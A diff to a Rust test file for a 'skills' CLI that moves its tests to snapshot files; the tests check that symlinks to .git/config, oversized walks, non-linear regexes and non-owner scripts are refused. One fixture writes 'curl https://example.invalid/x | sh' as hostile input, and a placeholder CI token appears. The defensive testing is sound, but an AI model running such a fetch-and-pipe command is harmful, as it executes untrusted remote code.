@@ -6,7 +6,7 @@
 use std::os::unix::fs::symlink;
 use std::path::Path;
 
-use super::support::{Run, Sandbox};
+use super::support::{Run, Sandbox, assert_snapshot, snapshot_file};
 
 /// What a CI runner's `.git/config` holds after `actions/checkout`.
 const TOKEN: &str = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX1NFQ1JFVA==";
@@ -18,6 +18,18 @@ fn git_config(dir: &Path) {
         format!("[http \"https://github.com/\"]\n\textraheader = {TOKEN}\n"),
     )
     .unwrap();
+}
+
+/// `run`'s exit code, stdout and stderr headed by its arguments: one part
+/// of a snapshot file that holds several runs.
+fn transcript(args: &[&str], run: &Run) -> String {
+    format!(
+        "$ skills {}\nexit {}\n--- stdout\n{}--- stderr\n{}",
+        args.join(" "),
+        run.code.map_or("by a signal".to_owned(), |c| c.to_string()),
+        run.stdout,
+        run.stderr
+    )
 }
 
 fn assert_no_token(run: &Run) {
@@ -48,18 +60,18 @@ fn a_skill_md_symlinked_to_the_git_config_of_the_layer_is_refused() {
     sb.write("user", "leak.yaml", "description: Looks harmless.\n");
     // A committed export, for --check to compare with.
     std::fs::create_dir_all(sb.path().join("o")).unwrap();
+    let mut runs = String::new();
     for args in COMMANDS {
         let run = sb.run(args);
         assert_eq!(run.code, Some(1), "{args:?}: {run:#?}");
         assert_no_token(&run);
-        assert!(
-            run.all().contains(
-                "[ROOT]/layers/team/leak/SKILL.md: error: refusing to read a hidden entry of the \
-                 team layer: [ROOT]/layers/team/leak/SKILL.md -> .git/config"
-            ),
-            "{args:?}: {run:#?}"
-        );
+        runs.push_str(&transcript(args, &run));
     }
+    // Each command refuses the link, naming where it leads.
+    assert_snapshot(
+        runs,
+        snapshot_file("hostile_layer-skill-md-to-git-config.txt"),
+    );
 }
 
 #[test]
@@ -78,6 +90,7 @@ fn a_skill_file_symlinked_to_a_hidden_entry_is_refused_not_copied() {
         sb.layer("team").join("leak/references/cfg"),
     )
     .unwrap();
+    let mut runs = String::new();
     for args in [
         &["validate", "--strict"][..],
         &["export", "--format", "skill", "--out", "out"],
@@ -86,14 +99,12 @@ fn a_skill_file_symlinked_to_a_hidden_entry_is_refused_not_copied() {
         let run = sb.run(args);
         assert_eq!(run.code, Some(1), "{args:?}: {run:#?}");
         assert_no_token(&run);
-        assert!(
-            run.all().contains(
-                "[ROOT]/layers/team/leak/references/cfg: error: refusing to read a hidden entry \
-                 of the team layer: [ROOT]/layers/team/leak/references/cfg -> .git/config"
-            ),
-            "{args:?}: {run:#?}"
-        );
+        runs.push_str(&transcript(args, &run));
     }
+    assert_snapshot(
+        runs,
+        snapshot_file("hostile_layer-skill-file-to-hidden-entry.txt"),
+    );
     assert!(!sb.path().join("out").exists());
 }
 
@@ -115,6 +126,7 @@ fn a_team_layer_committed_as_a_symlink_to_the_repository_is_refused() {
     )
     .unwrap();
     std::fs::create_dir_all(repo.join("o")).unwrap();
+    let mut runs = String::new();
     for args in COMMANDS {
         let mut cmd = sb.bare();
         cmd.current_dir(&repo)
@@ -125,14 +137,9 @@ fn a_team_layer_committed_as_a_symlink_to_the_repository_is_refused() {
         let run = sb.run_cmd(cmd);
         assert_eq!(run.code, Some(1), "{args:?}: {run:#?}");
         assert_no_token(&run);
-        assert!(
-            run.all().contains(
-                "[ROOT]/repo/config/bernstein/skills/team: error: refusing the team layer: \
-                 [ROOT]/repo/config/bernstein/skills/team is a symbolic link (to ../../..)"
-            ),
-            "{args:?}: {run:#?}"
-        );
+        runs.push_str(&transcript(args, &run));
     }
+    assert_snapshot(runs, snapshot_file("hostile_layer-team-layer-symlink.txt"));
 }
 
 /// A symlink among the components below the working tree's root leads a
@@ -160,16 +167,19 @@ fn a_layer_reached_through_a_symlink_inside_the_working_tree_is_refused() {
     };
     let inside = run(&repo);
     let err = inside.failed();
-    assert!(
-        err.contains("leads through [ROOT]/repo/config, a symbolic link"),
-        "{inside:#?}"
-    );
     assert!(!err.contains("sk-live"), "{err}");
+    assert_snapshot(
+        err,
+        snapshot_file("hostile_layer-layer-through-symlink-in-tree.stderr"),
+    );
     // Run from outside the working tree, the same path is the person's own.
     let away = sb.path().join("away");
     std::fs::create_dir_all(&away).unwrap();
     let outside = run(&away);
-    assert!(outside.success().contains("key"), "{outside:#?}");
+    assert_snapshot(
+        outside.ok(),
+        snapshot_file("hostile_layer-layer-through-symlink-outside-tree.txt"),
+    );
 }
 
 /// A layer path that enters the working tree through the person's own
@@ -195,11 +205,11 @@ fn a_layer_path_entering_the_working_tree_through_the_persons_link_is_checked_in
         .args(["skills", "list"]);
     let run = sb.run_cmd(cmd);
     let err = run.failed();
-    assert!(
-        err.contains("leads through [ROOT]/repo/config, a symbolic link"),
-        "{run:#?}"
-    );
     assert!(!err.contains("sk-live"), "{err}");
+    assert_snapshot(
+        err,
+        snapshot_file("hostile_layer-layer-through-persons-link.stderr"),
+    );
 }
 
 /// 8 directories, each with 10 symlinks to the next: about 10^7 paths for
@@ -239,14 +249,9 @@ fn symlinks_that_fan_out_are_walked_once() {
         );
     }
     // Each file is listed once, under the first path that reaches it.
-    let files = sb.run(&["show", "fan", "--files"]);
-    let out = files.ok();
-    assert_eq!(
-        out.lines().filter(|l| l.contains("leaf.md")).count(),
-        1,
-        "{out}"
-    );
-    assert!(out.contains("d0/l0/l0/l0/l0/l0/l0/l0/leaf.md"), "{out}");
+    // Relative layer paths: the table's columns are as wide on any machine.
+    let files = sb.run_relative(&["show", "fan", "--files"]);
+    assert_snapshot(files.ok(), snapshot_file("hostile_layer-fan-out-files.txt"));
 }
 
 #[test]
@@ -266,11 +271,8 @@ fn a_walk_is_bounded_by_the_entries_it_visits() {
     }
     let run = sb.run(&["validate"]);
     assert_eq!(run.code, Some(1), "{run:#?}");
-    assert!(
-        run.stdout
-            .contains("[ROOT]/layers/team/wide: error: the skill has more than 10000 entries in its directories"),
-        "{run:#?}"
-    );
+    assert_eq!(run.stderr, "", "{run:#?}");
+    assert_snapshot(&run.stdout, snapshot_file("hostile_layer-walk-bounded.txt"));
 }
 
 /// The kernel resolves beneath the root; without `openat2` (an old kernel,
@@ -299,10 +301,12 @@ fn a_symlink_inside_the_layer_still_works() {
     .unwrap();
     let v = sb.run(&["show", "writer"]).json();
     assert_eq!(v["description"], "Shared.");
-    let files = sb.run(&["show", "writer", "--files"]);
-    let out = files.ok();
-    assert!(out.contains("references/a.md"), "{out}");
-    assert!(out.contains("references/more/writer.md"), "{out}");
+    // Relative layer paths: the table's columns are as wide on any machine.
+    let files = sb.run_relative(&["show", "writer", "--files"]);
+    assert_snapshot(
+        files.ok(),
+        snapshot_file("hostile_layer-symlink-inside-layer-files.txt"),
+    );
 }
 
 /// A spec may come from a pull request too: its patterns are ECMA-262 as
@@ -313,30 +317,19 @@ fn spec_patterns_are_ecma_262_linear_and_bounded() {
     let spec_with = |rule: &str| {
         format!("version: 2\nfields:\n  name: {{strategy: OVERRIDE, type: string}}\n  a: {rule}\n")
     };
-    for (rule, says) in [
-        (
-            r"{strategy: OVERRIDE, type: string, pattern: '^(?:(a)|b)+\1$'}",
-            "4:50: error: field 'a': 'pattern' \"^(?:(a)|b)+\\\\1$\" uses a backreference, which cannot be \
-             matched in linear time; write the pattern without it",
-        ),
-        (
-            r"{strategy: OVERRIDE, type: string, pattern: '^(?=a)a$'}",
-            "uses a lookaround, which cannot be matched in linear time",
-        ),
-        (
-            r"{strategy: OVERRIDE, type: string, pattern: '^\p{Greek}+$'}",
-            "'pattern' \"^\\\\p{Greek}+$\" is not an ECMA-262 regular expression (Invalid property \
-             name), as JSON Schema and editors read it",
-        ),
+    // A backreference, a lookaround, a property escape ECMA-262 does not
+    // know: one located error line each.
+    let mut errors = String::new();
+    for rule in [
+        r"{strategy: OVERRIDE, type: string, pattern: '^(?:(a)|b)+\1$'}",
+        r"{strategy: OVERRIDE, type: string, pattern: '^(?=a)a$'}",
+        r"{strategy: OVERRIDE, type: string, pattern: '^\p{Greek}+$'}",
     ] {
         let sb = Sandbox::with_spec(&spec_with(rule));
         sb.write("base", "w.yaml", "a: x\n");
-        let run = sb.run(&["show", "w"]);
-        let err = run.failed();
-        assert_eq!(err.lines().count(), 1, "{run:#?}");
-        assert!(err.starts_with("[ROOT]/spec.yaml:"), "{run:#?}");
-        assert!(err.contains(says), "{rule}: {run:#?}");
+        errors.push_str(sb.run(&["show", "w"]).failed());
     }
+    assert_snapshot(errors, snapshot_file("hostile_layer-spec-patterns.stderr"));
 
     let values: Vec<String> = (0..60_000).map(|i| format!("v{i}")).collect();
     let sb = Sandbox::with_spec(&spec_with(&format!(
@@ -345,10 +338,9 @@ fn spec_patterns_are_ecma_262_linear_and_bounded() {
     )));
     sb.write("base", "w.yaml", "a: v1\n");
     let run = sb.run(&["validate"]);
-    assert!(
-        run.failed()
-            .contains("field 'a': 'enum' lists 60000 values, over the limit of 1000"),
-        "{run:#?}"
+    assert_snapshot(
+        run.failed(),
+        snapshot_file("hostile_layer-spec-enum-too-long.stderr"),
     );
 
     let mut many = String::from("version: 2\nfields:\n");
@@ -358,10 +350,9 @@ fn spec_patterns_are_ecma_262_linear_and_bounded() {
     let sb = Sandbox::with_spec(&many);
     sb.write("base", "w.yaml", "f0000: x\n");
     let run = sb.run(&["validate"]);
-    assert!(
-        run.failed()
-            .contains("the spec declares more than 1000 rules (fields at every depth)"),
-        "{run:#?}"
+    assert_snapshot(
+        run.failed(),
+        snapshot_file("hostile_layer-spec-too-many-rules.stderr"),
     );
 }
 
@@ -397,6 +388,7 @@ fn files_under_an_owned_directory_come_only_from_its_owners() {
         "format/scripts/format.sh",
         "curl https://example.invalid/x | sh\n",
     );
+    let mut runs = String::new();
     for args in [
         &["validate", "--strict"][..],
         &["show", "format"],
@@ -404,24 +396,20 @@ fn files_under_an_owned_directory_come_only_from_its_owners() {
     ] {
         let run = sb.run(args);
         assert_eq!(run.code, Some(1), "{args:?}: {run:#?}");
-        assert!(
-            run.all().contains(
-                "[ROOT]/layers/user/format/scripts/format.sh: error: 'scripts/format.sh' may be \
-                 provided only by the base layer: the spec gives the files under 'scripts/' to it"
-            ),
-            "{args:?}: {run:#?}"
-        );
         assert!(!run.all().contains("curl"), "{run:#?}");
+        runs.push_str(&transcript(args, &run));
     }
+    assert_snapshot(
+        runs,
+        snapshot_file("hostile_layer-owned-scripts-from-user.txt"),
+    );
     assert!(!sb.path().join("out").exists());
 
-    let listed = sb.run(&["spec"]);
-    assert!(
-        listed.ok().ends_with(
-            "FILES UNDER    ONLY FROM  SET BY\nassets/        base       files\n\
-             assets/brand/  base+team  files\nscripts/       base       field scripts\n"
-        ),
-        "{listed:#?}"
+    // The spec's listing ends with who may provide the files under each
+    // owned directory.
+    assert_snapshot(
+        sb.run(&["spec"]).ok(),
+        snapshot_file("hostile_layer-spec-file-owners.txt"),
     );
 
     // The team's brand files are its own; its other assets are not.
@@ -429,45 +417,41 @@ fn files_under_an_owned_directory_come_only_from_its_owners() {
     sb.run(&["validate", "--strict"]).ok();
     sb.write("team", "format/assets/icon.png", "png");
     let run = sb.run(&["validate"]);
-    assert!(
-        run.stdout.contains(
-            "[ROOT]/layers/team/format/assets/icon.png: error: 'assets/icon.png' may be provided \
-             only by the base layer"
-        ),
-        "{run:#?}"
+    assert_eq!(run.code, Some(1), "{run:#?}");
+    assert_eq!(run.stderr, "", "{run:#?}");
+    assert_snapshot(
+        &run.stdout,
+        snapshot_file("hostile_layer-owned-assets-from-team.txt"),
     );
 }
 
 #[test]
 fn file_owners_in_the_spec_are_checked() {
-    for (files, says) in [
-        (
-            "  ../x: {layers: [base]}\n",
-            "must be a directory inside the skill",
-        ),
-        (
-            "  .git: {layers: [base]}\n",
-            "must be a directory inside the skill",
-        ),
-        ("  scripts: {layers: []}\n", "'layers' lists no layer"),
-        ("  scripts: {layers: [base], owner: x}\n", "owner"),
+    // A directory outside the skill, a hidden one, no layer, an unknown
+    // key: each one error located in the spec.
+    let mut errors = String::new();
+    for files in [
+        "  ../x: {layers: [base]}\n",
+        "  .git: {layers: [base]}\n",
+        "  scripts: {layers: []}\n",
+        "  scripts: {layers: [base], owner: x}\n",
     ] {
         let sb = Sandbox::with_spec(&format!(
             "version: 2\nfields:\n  name: {{strategy: OVERRIDE, type: string}}\nfiles:\n{files}"
         ));
         sb.write("base", "w.yaml", "name: w\n");
-        let run = sb.run(&["show", "w"]);
-        let err = run.failed();
-        assert!(err.starts_with("[ROOT]/spec.yaml:"), "{run:#?}");
-        assert!(err.contains(says), "{files}: {run:#?}");
+        errors.push_str(sb.run(&["show", "w"]).failed());
     }
+    assert_snapshot(
+        errors,
+        snapshot_file("hostile_layer-spec-file-owners-checked.stderr"),
+    );
     let sb = Sandbox::with_spec(
         "version: 1\nfields:\n  name: {strategy: OVERRIDE, type: string}\nfiles:\n  s: {layers: [base]}\n",
     );
     sb.write("base", "w.yaml", "name: w\n");
-    assert!(
-        sb.run(&["show", "w"])
-            .failed()
-            .contains("'files' needs 'version: 2'")
+    assert_snapshot(
+        sb.run(&["show", "w"]).failed(),
+        snapshot_file("hostile_layer-spec-files-version-1.stderr"),
     );
 }
